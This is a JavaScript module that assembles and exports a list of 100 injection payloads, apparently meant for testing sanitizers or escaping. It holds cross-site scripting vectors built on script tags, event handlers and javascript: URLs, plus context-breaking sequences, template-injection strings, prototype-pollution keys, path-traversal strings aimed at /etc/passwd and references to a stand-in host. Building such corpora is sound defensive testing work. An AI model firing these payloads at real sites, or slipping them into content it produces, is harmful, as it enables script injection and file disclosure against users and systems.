// A hundred texts that would run something if any of them were ever taken for markup, code or an address.
const code = 'alert(1)';
const tags = [
  '<script>$</script>', '<ScRiPt>$</sCrIpT>', '<img src=x onerror=$>', '<img src=x onerror="$">', '<svg onload=$>', '<svg/onload=$>', '<svg><script>$</script></svg>',
  '<svg><animate onbegin=$ attributeName=x dur=1s>', '<svg><a xlink:href="javascript:$"><text>x</text></a></svg>', '<iframe src="javascript:$">', '<iframe srcdoc="<script>$</script>">',
  '<body onload=$>', '<input autofocus onfocus=$>', '<select autofocus onfocus=$>', '<textarea autofocus onfocus=$>', '<details open ontoggle=$>', '<video><source onerror=$>',
  '<video src=x onerror=$>', '<audio src=x onerror=$>', '<object data="javascript:$">', '<embed src="javascript:$">', '<math href="javascript:$">x</math>',
  '<form action="javascript:$"><button>x</button></form>', '<a href="javascript:$">x</a>', '<marquee onstart=$>', '<link rel=stylesheet href="javascript:$">', '<meta http-equiv=refresh content="0;url=javascript:$">',
  '<base href="javascript:$//">', '<style>@import "javascript:$";</style>', '<div style="background:url(javascript:$)">', '<template><script>$</script></template>', '<noscript><p title="</noscript><img src=x onerror=$>">',
];
const breaks = ['"', "'", '`', '>', '"/>', "'/>", '--><', ']]>', '</script>', '</title>', '</textarea>', '</svg>', '</style>', '</noscript>', '\\"', "\\'", '\u0000', '\u2028', '\r\n\r\n', '%00'];
const others = [
  'javascript:$', 'JaVaScRiPt:$', 'data:text/html,<script>$</script>', 'vbscript:$', '{{constructor.constructor("$")()}}', '${$}', '#{$}', '<%= $ %>', '{@html "<img src=x onerror=$>"}', '{$}',
  '__proto__', 'constructor', 'prototype[$]', '");$;//', "');$;//", '`);$;//', '</script><script>$</script>', '*/$/*', '//evil.example/$', '\\\\evil.example\\$',
  '/../../etc/passwd', '..%2f..%2fetc%2fpasswd', '%3Cscript%3E$%3C/script%3E', '&lt;script&gt;$&lt;/script&gt;', '&#60;script&#62;$&#60;/script&#62;', '\\u003cscript\\u003e$\\u003c/script\\u003e', '\uff1cscript\uff1e$\uff1c/script\uff1e', '+ADw-script+AD4-$+ADw-/script+AD4-',
];
const all = [...tags, ...breaks.map((b) => `${b}<img src=x onerror=$>`), ...breaks.map((b) => `x${b} onmouseover=$ autofocus onfocus=$ x=${b}`), ...others];
export const payloads = all.slice(0, 100).map((p) => p.replaceAll('$', code));
